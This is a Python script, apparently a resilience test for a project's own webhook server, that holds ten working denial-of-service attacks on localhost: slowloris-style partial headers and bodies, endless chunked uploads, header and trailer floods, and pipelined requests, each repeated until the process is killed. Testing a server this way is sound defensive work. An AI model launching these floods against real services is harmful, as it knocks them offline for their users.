"""What a stranger with one machine can send, until killed: `python -m proof.siege_attack NAME PORT`."""

import asyncio
import contextlib
import resource
import sys

CONNECTIONS = 1_050
SHAPED = b"x-line-signature: " + b"A" * 43 + b"=\r\n"
POST = b"POST /callback HTTP/1.1\r\nHost: x\r\n"
# What is sent at once, then again and again, and how many connections do so.
ATTACKS: dict[str, tuple[bytes, bytes, int]] = {
    "silent": (b"", b"", CONNECTIONS),
    "half-heads": (POST, b"a: b\r\n", CONNECTIONS),
    "half-bodies": (POST + SHAPED + b"Content-Length: 1000\r\n\r\nx", b"x", CONNECTIONS),
    "half-bodies-unsigned": (POST + b"Content-Length: 1000\r\n\r\nx", b"x", CONNECTIONS),
    "large-bodies": (POST + SHAPED + b"Content-Length: 250000\r\n\r\n" + b"x" * 249_000, b"x", 300),
    "endless-bodies": (
        POST + SHAPED + b"Transfer-Encoding: chunked\r\n\r\n",
        b"10000\r\n" + b"x" * 65536 + b"\r\n",
        20,
    ),
    "headers": (POST, b"a:\r\n" * 10_000, 20),
    "one-header": (POST + b"a: ", b"x" * 65536, 20),
    "trailers": (POST + SHAPED + b"Transfer-Encoding: chunked\r\n\r\n0\r\n", b"a:\r\n" * 10_000, 20),
    "pipelines": (b"", b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n" * 1_000, 20),
}
PAUSE_S = {"silent": 1.0, "half-heads": 0.9, "half-bodies": 0.9, "half-bodies-unsigned": 0.9, "large-bodies": 0.9}
AGAIN_S = 0.05  # until a connection that was closed is opened anew


async def attack(port: int, name: str) -> None:
    """Keep one connection busy for ever, and open it anew when it is closed."""
    first, then, _ = ATTACKS[name]
    while True:
        with contextlib.suppress(OSError, TimeoutError):
            async with asyncio.timeout(30):
                reader, writer = await asyncio.open_connection("127.0.0.1", port)
            try:
                writer.write(first)
                while not writer.is_closing() and not reader.at_eof():
                    await writer.drain()
                    await asyncio.sleep(PAUSE_S.get(name, 0.01))
                    writer.write(then)
            finally:
                writer.transport.abort()
        await asyncio.sleep(AGAIN_S)


async def main(name: str, port: int) -> None:
    """Attack until killed."""
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(most, 8192), most))
    await asyncio.gather(*(attack(port, name) for _ in range(ATTACKS[name][2])))


if __name__ == "__main__":
    asyncio.run(main(sys.argv[1], int(sys.argv[2])))
